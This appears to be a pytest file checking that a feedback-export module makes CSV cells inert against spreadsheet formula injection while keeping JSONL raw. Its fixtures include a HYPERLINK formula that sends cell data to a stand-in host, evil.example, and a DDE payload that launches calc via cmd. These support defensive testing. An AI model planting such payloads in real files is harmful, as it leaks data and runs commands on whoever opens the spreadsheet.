"""CSV exports are inert in a spreadsheet (OWASP CSV Injection); JSONL stays raw."""

from __future__ import annotations

import csv
import io
import json

import pytest

from core.feedback.export import inert_cell, safe_csv, write_export

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33 6 12", "'+33 6 12"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tX", "'\tX"), ("\rX", "'\rX"), ("plain", "plain"), ("", ""), (" =1", " =1"),
    (-1, -1), (None, None), (1.5, 1.5),
])
def test_inert_cell(value, expected):
    assert inert_cell(value) == expected


def test_a_formula_looking_prompt_exports_as_inert_text(store, tmp_path):
    """Read the CSV back as a spreadsheet would: every text cell that starts with a formula
    character starts with a quote; the reward -1 stays a number; JSONL keeps the exact text."""
    rid = store.record_output(session_id="s1", page="compare", mode="rag", prompt=FORMULA,
                              output="@cmd|' /C calc'!A0", rating="down",
                              comment="-lol", extra={"note": "=2+2"})
    records, prefs = store.list_outputs(), store.list_preferences()
    write_export("csv", records, prefs, tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["prompt"] == "'" + FORMULA
    assert row["output"] == "'@cmd|' /C calc'!A0"
    assert row["comment"] == "'-lol"
    assert row["reward"] == "-1" and row["id"] == str(rid)
    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or name == "reward", name
    write_export("jsonl", records, prefs, tmp_path / "out.jsonl")
    raw = json.loads((tmp_path / "out.jsonl").read_text("utf-8"))
    assert raw["prompt"] == FORMULA and raw["comment"] == "-lol"


def test_safe_csv_guards_headers_too():
    import pandas as pd

    text = safe_csv(pd.DataFrame({"=cmd": ["ok"]})).decode()
    assert text.splitlines()[0] == "'=cmd"
